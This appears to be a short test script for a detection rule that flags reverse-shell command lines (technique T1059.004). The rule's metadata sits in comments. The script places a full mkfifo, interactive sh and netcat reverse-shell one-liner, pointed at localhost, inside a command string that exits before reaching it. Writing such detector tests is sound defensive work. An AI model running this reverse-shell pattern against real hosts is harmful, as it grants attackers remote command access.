#!/bin/sh
# what: Names a shell between a named pipe and netcat in a command line that ends before it.
# rule: reverse_shell_command_line
# technique: T1059.004
# severity: high
# where: both
d=$(mktemp -d)
trap 'rm -rf "$d"' EXIT
cd "$d" || exit
sh -c 'exit 0
mkfifo p; cat p | sh -i 2>&1 | nc 127.0.0.1 9 > p'
